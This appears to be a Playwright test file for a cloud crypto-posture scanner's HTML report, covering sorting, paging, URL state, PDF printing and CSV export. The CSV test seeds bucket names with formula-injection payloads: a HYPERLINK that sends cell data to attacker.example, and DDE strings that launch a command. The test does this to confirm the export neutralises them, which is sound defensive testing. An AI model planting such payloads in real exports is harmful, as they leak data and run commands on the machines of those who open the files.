/**
 * The HTML report for the people who read it, in headless Chromium: the large account's
 * report (size, time to ready), sortable columns, the view kept in the URL fragment, CSV
 * export of the filtered rows with formula cells made inert, paging of every section, the
 * certificate expiry histogram, printing to PDF, and a 390 px wide screen.
 */
import { readFileSync, statSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import type { BrowserContext, Page } from 'playwright-core';
import { extractText, getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { evaluateSnapshot, prepareRules, type RuleResult } from '../../src/engine/index.ts';
import type { AcmCertificateAttributes } from '../../src/services/acm/types.ts';
import { parseSnapshot } from '../../src/graph/snapshot.ts';
import type { ReportInput } from '../../src/report/index.ts';
import { launchChromium } from '../support/chromium.ts';
import { LARGE_ACCOUNT, largeAccountInput } from '../support/large-account-report.ts';
import { demoInput, syntheticInput } from '../support/synthetic-report.ts';
import { matching, openFile, openReport, writeReport } from './open-report.ts';

let browser: BrowserContext;
let large: ReportInput;
let largeFile: string;

beforeAll(async () => {
  browser = await launchChromium();
  large = await largeAccountInput();
  largeFile = writeReport(large, 'large-account.html');
}, 120_000);

afterAll(async () => {
  await browser?.close();
});

const DAY_MS = 86_400_000;
const cellTexts = (page: Page, prefix: string, column: number) =>
  page.locator(`#${prefix}-rows > tr.cp-row > td:nth-child(${column})`).allTextContents();

describe('the HTML report for its readers', () => {
  it("the large account's report is under 15 MB, lists its failures and unknowns, counts the rest, and is ready quickly", async () => {
    const { byStatus } = large.evaluation.summary;
    expect(large.evaluation.results.length).toBe(LARGE_ACCOUNT.results);
    expect(byStatus.fail).toBe(LARGE_ACCOUNT.failures);
    const size = statSync(largeFile).size;
    expect(size).toBeLessThan(15 * 1024 * 1024);
    const { page, problems } = await openFile(browser, largeFile);
    // The page's own clock, from navigation start to the ready marker. The requirement is 3 s on
    // an idle machine; this bound is generous because the test machines are shared.
    const readyMs = Number(await page.getAttribute('body', 'data-ready-ms'));
    console.log(`large account report.html: ${(size / 1024 / 1024).toFixed(1)} MB, ready after ${readyMs} ms`);
    expect(readyMs).toBeGreaterThan(0);
    expect(readyMs).toBeLessThan(15_000);
    expect(await matching(page)).toBe(byStatus.fail + byStatus.error);
    await page.selectOption('#f-status', '');
    expect(await matching(page)).toBe(byStatus.fail + byStatus.error + byStatus.unknown);
    await page.selectOption('#f-status', 'pass');
    expect(await matching(page)).toBe(0);
    expect(await page.textContent('#f-note')).toContain(`${byStatus.pass.toLocaleString('en-US')} passing results`);
    // Per rule: every status counted in the rules section.
    const rule = large.evaluation.rules[0]!;
    const counts = { pass: 0, not_applicable: 0 };
    for (const r of large.evaluation.results)
      if (r.ruleId === rule.id && (r.status === 'pass' || r.status === 'not_applicable')) counts[r.status]++;
    const summary = await page.textContent(`[id="rule-${rule.id}"] summary`);
    expect(summary).toContain(`${counts.pass.toLocaleString('en-US')} pass`);
    expect(summary).toContain(`${counts.not_applicable.toLocaleString('en-US')} n/a`);
    expect(problems).toEqual([]);
    await page.close();
  });

  it('sorts the findings by a column, ascending then descending, and keeps the order in the URL', async () => {
    const { page, problems } = await openReport(browser, await demoInput(), 'sort.html');
    await page.click('#cp-findings th[data-sort="rule"]');
    const ascending = await cellTexts(page, 'f', 3);
    expect(ascending.length).toBeGreaterThan(1);
    expect(ascending).toEqual([...ascending].sort());
    expect(new Set(ascending).size).toBeGreaterThan(1);
    expect(await page.getAttribute('#cp-findings th[data-sort="rule"]', 'aria-sort')).toBe('ascending');
    expect(new URL(page.url()).hash).toContain('f.sort=rule');
    await page.click('#cp-findings th[data-sort="rule"]');
    const descending = await cellTexts(page, 'f', 3);
    expect(descending).toEqual([...ascending].sort().reverse());
    expect(new URL(page.url()).hash).toContain('f.sort=-rule');
    // Severity sorts by rank, not by name.
    await page.click('#cp-findings th[data-sort="severity"]');
    const ranks = (await cellTexts(page, 'f', 1)).map((s) => ['critical', 'high', 'medium', 'low', 'info'].indexOf(s.trim().toLowerCase()));
    expect(ranks.every((r) => r >= 0)).toBe(true);
    expect(ranks).toEqual([...ranks].sort((a, b) => a - b));
    // A key's alias is shown once; counts agree with their noun.
    const keyCells = await page
      .locator('#k-rows > tr.cp-row > td.resource')
      .evaluateAll((tds) => tds.map((td) => ({ alias: td.querySelector('.name')?.textContent ?? '', text: td.textContent ?? '' })));
    expect(keyCells.length).toBeGreaterThan(0);
    for (const { alias, text } of keyCells) expect(text.split(alias).length - 1, text).toBe(1);
    const protectCounts = await page.locator('#k-rows summary').allTextContents();
    expect(protectCounts.length).toBeGreaterThan(0);
    // Each count is followed by the count of every service, and those add up to it.
    for (const t of protectCounts) {
      const match = /^(1 resource|(?:0|[2-9]|[1-9][\d,]+) resources): ((?:[a-z0-9]+ \d+)(?:, [a-z0-9]+ \d+)*)$/.exec(t);
      expect(match, t).not.toBeNull();
      const total = parseInt(match![1]!.replace(/,/g, ''), 10);
      const parts = match![2]!.split(', ').map((p) => parseInt(p.split(' ')[1]!, 10));
      expect(
        parts.reduce((a, b) => a + b, 0),
        t,
      ).toBe(total);
    }
    expect(protectCounts.some((t) => t.includes('s3 '))).toBe(true);
    // The key table sorts too: by the number of resources each key protects.
    await page.click('#cp-keys th[data-sort="protects"]');
    await page.click('#cp-keys th[data-sort="protects"]');
    const protects = (await page.locator('#k-rows > tr.cp-row > td:nth-child(8)').allTextContents()).map((t) => parseInt(t, 10) || 0);
    expect(protects).toEqual([...protects].sort((a, b) => b - a));
    expect(problems).toEqual([]);
    await page.close();
  });

  it('keeps filters, search, sort and page in the URL fragment: opening the link shows the same view', async () => {
    const { page, file, problems } = await openFile(browser, largeFile);
    await page.selectOption('#f-severity', 'high');
    await page.selectOption('#f-region', 'eu-west-1');
    await page.fill('#f-search', 'vol-');
    await expect.poll(() => page.url()).toContain('f.q=vol-');
    await page.click('#cp-findings th[data-sort="resource"]');
    await page.click('#f-next');
    await page.selectOption('#k-manager', 'CUSTOMER');
    const link = page.url();
    const view = {
      matching: await matching(page),
      rows: await cellTexts(page, 'f', 4),
      keys: await matching(page, 'k'),
    };
    expect(view.matching).toBeGreaterThan(100);
    expect(view.matching).toBeLessThan(LARGE_ACCOUNT.failures);
    await page.close();

    const again = await openFile(browser, file, { fragment: new URL(link).hash.slice(1) });
    expect(await again.page.inputValue('#f-severity')).toBe('high');
    expect(await again.page.inputValue('#f-region')).toBe('eu-west-1');
    expect(await again.page.inputValue('#f-search')).toBe('vol-');
    expect(await again.page.getAttribute('#cp-findings th[data-sort="resource"]', 'aria-sort')).toBe('ascending');
    expect(await again.page.getAttribute('#f-count', 'data-page')).toBe('2');
    expect(await matching(again.page)).toBe(view.matching);
    expect(await cellTexts(again.page, 'f', 4)).toEqual(view.rows);
    expect(await matching(again.page, 'k')).toBe(view.keys);
    // A link written by hand, followed within the page.
    await again.page.evaluate("location.hash = 'f.status=&f.rule=CP-ACM-003&c.window='");
    await expect
      .poll(() => matching(again.page))
      .toBe(
        large.evaluation.results.filter((r) => r.ruleId === 'CP-ACM-003' && r.status !== 'pass' && r.status !== 'not_applicable').length,
      );
    expect(await matching(again.page, 'c')).toBe(LARGE_ACCOUNT.certificates);
    expect(problems).toEqual([]);
    expect(again.problems).toEqual([]);
    await again.page.close();
  });

  it('exports the filtered rows as CSV, and a cell that starts like a formula is made inert', async () => {
    const demo = await demoInput();
    const raw = structuredClone(demo.snapshot);
    const payloads = [
      '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
      '+cmd|" /C calc"!A0',
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    const buckets = raw.graph.nodes.filter((n) => n.type === 's3.bucket');
    expect(buckets.length).toBeGreaterThanOrEqual(payloads.length);
    payloads.forEach((p, i) => {
      buckets[i]!.name = p;
    });
    const run = parseSnapshot(raw, 'csv-injection');
    const evaluation = evaluateSnapshot(run, prepareRules());
    // Every result listed (--html-passing), so that each renamed bucket has rows.
    const { page, problems } = await openReport(browser, { evaluation, snapshot: run.snapshot }, 'csv.html', { passing: true });
    await page.selectOption('#f-status', '');
    await page.selectOption('#f-service', 's3');
    const expected = await matching(page);
    expect(expected).toBeGreaterThan(0);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#f-csv')]);
    expect(download.suggestedFilename()).toBe('cryptoposture-findings.csv');
    const text = readFileSync((await download.path())!, 'utf8');
    const rows = parse(text, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[];
    expect(rows).toHaveLength(expected);
    const names = new Set(rows.map((r) => r['resource']));
    for (const p of payloads) expect(names).toContain(`'${p}`);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Every row is an s3 finding, as filtered.
    const s3Rules = new Set(evaluation.rules.filter((r) => r.service === 's3').map((r) => r.id));
    expect(rows.every((r) => s3Rules.has(r['rule']!))).toBe(true);
    expect(problems).toEqual([]);
    await page.close();
  });

  it('pages every section: findings, certificates, keys and key policies', async () => {
    const { page, problems } = await openFile(browser, largeFile);
    for (const [prefix, size] of [
      ['f', 100],
      ['c', 50],
      ['k', 50],
      ['p', 50],
    ] as const) {
      const total = await matching(page, prefix);
      expect(total, prefix).toBeGreaterThan(size);
      expect(await page.locator(`#${prefix}-rows > tr.cp-row`).count()).toBe(size);
      expect(await page.isDisabled(`#${prefix}-prev`)).toBe(true);
      const first = await page.locator(`#${prefix}-rows > tr.cp-row`).first().getAttribute('data-index');
      await page.click(`#${prefix}-next`);
      expect(await page.getAttribute(`#${prefix}-count`, 'data-page')).toBe('2');
      expect(await page.textContent(`#${prefix}-count`)).toContain(`showing ${size + 1} to`);
      expect(await page.locator(`#${prefix}-rows > tr.cp-row`).first().getAttribute('data-index')).not.toBe(first);
      expect(new URL(page.url()).hash).toContain(`${prefix}.page=2`);
      await page.click(`#${prefix}-prev`);
      expect(await page.locator(`#${prefix}-rows > tr.cp-row`).first().getAttribute('data-index')).toBe(first);
    }
    // A page past the end shows the last one, which holds the rest.
    await page.evaluate("location.hash = 'f.page=9999&c.page=9999&k.page=9999&p.page=9999'");
    for (const [prefix, size] of [
      ['f', 100],
      ['c', 50],
      ['k', 50],
      ['p', 50],
    ] as const) {
      const total = await matching(page, prefix);
      const pages = Math.ceil(total / size);
      await expect.poll(() => page.getAttribute(`#${prefix}-count`, 'data-page'), { message: prefix }).toBe(String(pages));
      expect(await page.locator(`#${prefix}-rows > tr.cp-row`).count()).toBe(total - (pages - 1) * size);
      expect(await page.isDisabled(`#${prefix}-next`)).toBe(true);
    }
    // Key policies filter like the rest.
    await page.selectOption('#p-access', 'external accounts');
    const external = large.snapshot.graph.nodes.filter(
      (n) =>
        n.type === 'kms.key' &&
        ((n.attributes as { policyAnalysis?: { externalAccounts?: string[] } }).policyAnalysis?.externalAccounts?.length ?? 0) > 0,
    ).length;
    expect(external).toBeGreaterThan(0);
    expect(await matching(page, 'p')).toBe(external);
    expect(problems).toEqual([]);
    await page.close();
  });

  it('shows certificate expiry as a histogram and lists only the certificates inside the window', async () => {
    const started = Date.parse(large.snapshot.scan.startedAt);
    const buckets = { expired: 0, '7d': 0, '30d': 0, '45d': 0, '90d': 0, later: 0 };
    for (const n of large.snapshot.graph.nodes) {
      if (n.type !== 'acm.certificate') continue;
      const days = (Date.parse((n.attributes as AcmCertificateAttributes).notAfter!) - started) / DAY_MS;
      buckets[days < 0 ? 'expired' : days < 7 ? '7d' : days < 30 ? '30d' : days < 45 ? '45d' : days < 90 ? '90d' : 'later']++;
    }
    expect(Object.values(buckets).every((c) => c > 0)).toBe(true);
    const { page, problems } = await openFile(browser, largeFile);
    const bars = await page
      .locator('#cp-histogram .hbar')
      .evaluateAll((gs) => gs.map((g) => [g.getAttribute('data-bucket'), Number(g.getAttribute('data-count'))]));
    expect(Object.fromEntries(bars)).toEqual(buckets);
    // One bar per window, not one per certificate.
    expect(await page.locator('#cp-histogram rect').count()).toBe(6);
    const inWindow = LARGE_ACCOUNT.certificates - buckets.later;
    expect(await matching(page, 'c')).toBe(inWindow);
    await page.click('#cp-histogram .hbar[data-bucket="7d"] text');
    expect(await matching(page, 'c')).toBe(buckets['7d']);
    const days = (await cellTexts(page, 'c', 2)).map(Number);
    expect(days.length).toBe(buckets['7d']);
    expect(days.every((d) => d >= 0 && d < 7)).toBe(true);
    // Dates: UTC to the minute, the exact ISO time on hover.
    const time = page.locator('#c-rows time').first();
    expect(await time.textContent()).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC$/);
    expect(await time.getAttribute('title')).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/);
    expect(problems).toEqual([]);
    await page.close();
  });

  it('prints to PDF every section, each on new pages, and every failure, without the filter widgets', async () => {
    const input = await syntheticInput(400, { mixed: true });
    // A failure that sorts last: the lowest severity, the last rule, a resource of its own.
    const lastRule = input.evaluation.rules.at(-1)!;
    const last: RuleResult = {
      ...input.evaluation.results.find((r) => r.status === 'fail')!,
      ruleId: lastRule.id,
      severity: 'info',
      message: 'the-last-failure-zz',
      resource: {
        id: 'arn:aws:s3:::zz-last-failure',
        type: 's3.bucket',
        account: '111122223333',
        region: 'eu-west-1',
        name: 'zz-last-failure',
      },
    };
    input.evaluation.results.push(last);
    const failing = input.evaluation.results.filter((r) => r.status === 'fail' || r.status === 'error');
    const { page, problems } = await openReport(browser, input, 'print.html');
    expect(await matching(page)).toBe(failing.length);
    expect(failing.length).toBeGreaterThan(300); // far more than one screen page of 100
    const pdf = await page.pdf({ format: 'A4', printBackground: false });
    // After printing, the screen shows one page again.
    expect(await page.locator('#f-rows > tr.cp-row').count()).toBe(100);
    const document = await getDocumentProxy(new Uint8Array(pdf));
    const { totalPages, text } = await extractText(document, { mergePages: false });
    const all = text.join('\n');
    // Every failure is printed, the one that sorts last too; the widgets are not.
    expect(all).toContain('the-last-failure-zz');
    const printedNames = new Set(all.match(/resource-\d{6}|zz-last-failure/g));
    for (const r of failing) expect(printedNames, r.resource.name).toContain(r.resource.name);
    expect(all).not.toContain('Export CSV');
    expect(all).not.toContain('Previous');
    // Each section starts a page of its own.
    const headings = [
      'Findings',
      'Certificate expiry',
      'KMS keys and what they protect',
      'Key policies: who can use each key',
      'Compliance',
      'Rules',
    ];
    const starts = headings.map((h) => text.findIndex((t) => t.trimStart().startsWith(h)));
    expect(starts.every((i) => i > 0)).toBe(true);
    expect(starts).toEqual([...starts].sort((a, b) => a - b));
    // Pages: the summary, the findings over many pages, then one or more per section.
    expect(totalPages).toBeGreaterThan(starts[1]!);
    expect(starts[1]! - starts[0]!).toBeGreaterThanOrEqual(Math.ceil(failing.length / 60));
    expect(totalPages).toBeLessThan(400);
    expect(problems).toEqual([]);
    await page.close();
  });

  it('at 390 px wide nothing overflows the page: wide tables scroll inside their own box', async () => {
    for (const { page, problems } of [
      await openReport(browser, await demoInput(), 'narrow.html', { width: 390 }),
      await openFile(browser, largeFile, { width: 390 }),
    ]) {
      const widths = () =>
        page.evaluate<{ scroll: number; inner: number }>('({ scroll: document.documentElement.scrollWidth, inner: innerWidth })');
      expect((await widths()).inner).toBe(390);
      expect((await widths()).scroll).toBeLessThanOrEqual(390);
      // Rule ids and regions are never broken over two lines (each is one line box).
      const lines = await page.evaluate<{ text: string; lines: number }[]>(`[...document.querySelectorAll(
        '#f-rows td.rule, #f-rows td.where, #k-rows td:nth-child(3), #c-rows td:nth-child(8), .cp-compliance a, #summary dd .nowrap'
      )].map((e) => { const r = document.createRange(); r.selectNodeContents(e); return { text: e.textContent, lines: r.getClientRects().length }; })`);
      expect(lines.length).toBeGreaterThan(20);
      expect(lines.filter((l) => l.lines !== 1)).toEqual([]);
      await page.locator('#f-rows tr.cp-row').first().click();
      expect(await page.locator('.cp-details').count()).toBe(1);
      expect((await widths()).scroll).toBeLessThanOrEqual(390);
      const boxes = await page.locator('.scroll').evaluateAll((els) => els.map((e) => e.scrollWidth > e.clientWidth));
      expect(boxes.some(Boolean)).toBe(true);
      expect(problems).toEqual([]);
      await page.close();
    }
  });
});
